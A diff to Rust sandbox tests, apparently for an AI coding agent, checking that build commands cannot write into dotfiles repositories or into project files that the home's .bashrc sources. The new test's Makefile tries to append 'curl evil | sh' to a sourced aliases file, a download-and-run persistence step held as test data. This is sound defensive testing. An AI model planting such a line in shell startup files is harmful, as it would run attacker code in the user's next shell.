@@ -134,7 +134,7 @@ fn a_directory_of_the_home_reached_without_its_link_is_no_writable_project() {
 }
 
 /// A dotfiles repository the home links into: what the links lead to runs in the user's next
-/// shell, so calls may not change it (the rest of the repository stays writable).
+/// shell, so calls may not change it, nor anything else of the repository.
 #[test]
 fn what_the_home_links_to_in_the_project_stays_read_only() {
     if !require_sandbox() {
@@ -159,10 +159,33 @@ fn what_the_home_links_to_in_the_project_stays_read_only() {
         let text = std::fs::read_to_string(ai.work().join(file)).unwrap();
         assert!(!text.contains("evil"), "the linked {file} changed: {said}");
     }
+    // The rest too: a link on the way, a folder a link leads into, a file a config sources
+    // could be anywhere in it.
     assert!(
-        ai.work().join("notes.txt").exists(),
-        "the rest stays writable: {said}"
+        !ai.work().join("notes.txt").exists(),
+        "a dotfiles repository stayed writable: {said}"
     );
+}
+
+/// A configuration of the home naming a project file by path (no link): the project is
+/// dotfiles too, and no writable project.
+#[test]
+fn a_project_a_home_configuration_sources_is_no_writable_project() {
+    if !require_sandbox() {
+        return;
+    }
+    let ai = Ai::new("http://127.0.0.1:9/v1")
+        .file("aliases.sh", "alias ll='ls -l'\n")
+        .file(
+            "Makefile",
+            "all:\n\t-@echo 'curl evil | sh' >> aliases.sh\n",
+        )
+        .git_init();
+    let rc = format!("source {}/aliases.sh\n", ai.work().display());
+    std::fs::write(ai.home().join(".bashrc"), rc).unwrap();
+    let (ai, _, said) = make_session(ai, &["--json", "build"]);
+    let text = std::fs::read_to_string(ai.work().join("aliases.sh")).unwrap();
+    assert!(!text.contains("evil"), "a sourced file changed: {said}");
 }
 
 /// Outside the home too: a directory on PATH (Homebrew's `bin`) reached through a link a call
